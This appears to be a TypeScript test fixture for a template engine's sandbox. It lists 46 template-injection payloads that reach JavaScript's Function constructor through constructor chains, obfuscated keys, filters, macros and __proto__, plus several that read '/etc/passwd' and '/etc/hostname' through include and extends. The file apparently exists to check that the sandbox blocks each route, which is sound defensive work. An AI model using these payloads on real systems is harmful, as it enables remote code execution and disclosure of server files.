import { type Attack, attack, PAYLOAD } from './attack.js'

const call = `('${PAYLOAD}')()`
const once = `('${PAYLOAD}')`
/** `''[key][key]('...')()`. */
const byKey = (key: string) => `{{ ''[${key}][${key}]${call} }}`

/** 46 ways from a value to JavaScript's Function, or to a file (reliability, appendix C, look-ups). */
export const attacksOnLookups: Attack[] = [
  attack('constructor of text', `{{ ''.constructor.constructor${call} }}`),
  attack('by brackets', byKey("'constructor'")),
  attack('key by ~', byKey("'const'~'ructor'")),
  attack('key by +', byKey("'const'+'ructor'")),
  attack('key by an escape', byKey("'\\x63onstructor'")),
  attack('key by lower', byKey("('CONSTRUCTOR'|lower)")),
  attack('key by reverse', byKey("('rotcurtsnoc'|reverse)")),
  attack('key by join', byKey("(['con','structor']|join)")),
  attack('list as a key', byKey("['constructor']")),
  attack('list as a key of range', `{% set k=['constructor'] %}{{ range[k]${call} }}`),
  attack('key from a variable', byKey('k'), { k: 'constructor' }),
  attack('list from a variable', byKey('k'), { k: ['constructor'] }),
  attack('object from a variable', byKey('k'), { k: { toString: 'constructor' } }),
  attack('range', `{{ range.constructor${call} }}`),
  attack('cycler', `{{ cycler.constructor${call} }}`),
  attack('joiner', `{{ joiner().constructor${call} }}`),
  attack('cycler().next', `{{ cycler('a').next.constructor${call} }}`),
  attack('macro', `{% macro m() %}{% endmacro %}{{ m.constructor${call} }}`),
  attack(
    'caller',
    `{% macro m() %}{{ caller.constructor${call} }}{% endmacro %}{% call m() %}x{% endcall %}`,
  ),
  attack('__proto__', `{{ {}.__proto__.constructor.constructor${call} }}`),
  attack('toString', `{{ {}.toString.constructor${call} }}`),
  attack('bare toString', `{{ toString.constructor${call} }}`),
  attack('bare constructor', `{{ constructor.constructor${call} }}`),
  attack('bare hasOwnProperty', `{{ hasOwnProperty.constructor${call} }}`),
  attack('bare valueOf', `{{ valueOf().constructor${once} }}`),
  attack('bare __defineGetter__', `{{ __defineGetter__.constructor${call} }}`),
  attack('map and groupby', `{{ ['${PAYLOAD}']|map('constructor') }}{{ [1]|groupby('constructor') }}`),
  attack('sum and join', `{{ ['x']|sum('constructor') }}{{ ['x']|join('','constructor') }}`),
  attack('selectattr', `{{ [[]]|selectattr('constructor')|tojson }}`),
  attack('replace with a function', `{{ 'x'|replace(r/x/, ''.constructor.constructor${once}) }}`),
  attack('groupby with a function', `{{ [1]|groupby(''.constructor.constructor${once}) }}`),
  attack(
    'is callable',
    `{% if ''.constructor is callable and ''.constructor.constructor${call} %}{% endif %}`,
  ),
  attack(
    'aliases by set',
    `{% set c=''.constructor %}{% set f=c.constructor %}{% set g=f${once} %}{{ g() }}`,
  ),
  attack('alias by for', `{% for f in [''.constructor.constructor] %}{{ f${call} }}{% endfor %}`),
  attack('alias by if', `{{ (''.constructor.constructor if true else 1)${call} }}`),
  attack('alias by or', `{{ (''.constructor.constructor or 1)${call} }}`),
  attack('key __proto__ of a dict', `{% set o={"__proto__": range} %}{{ o.constructor${call} }}`),
  attack('own __proto__ from JSON', `{{ o.constructor.constructor${call} }}`, {
    o: JSON.parse('{"__proto__":{"x":1}}'),
  }),
  attack('regular expression', `{{ r/a/.constructor.constructor${call} }}`),
  attack('switch', `{% switch ''.constructor.constructor${call} %}{% case 1 %}{% endswitch %}`),
  attack('filter tag', `{% filter replace('x', ''.constructor.constructor${call}) %}x{% endfilter %}`),
  attack('import', `{% import 'x' as y %}{{ y }}`),
  attack('include', `{% include '/etc/passwd' %}`),
  attack('include of a list', `{% include ['a','/etc/hostname'] %}`),
  attack('extends', `{% extends '/etc/passwd' %}`),
  attack('from', `{% from '/etc/passwd' import x %}`),
]
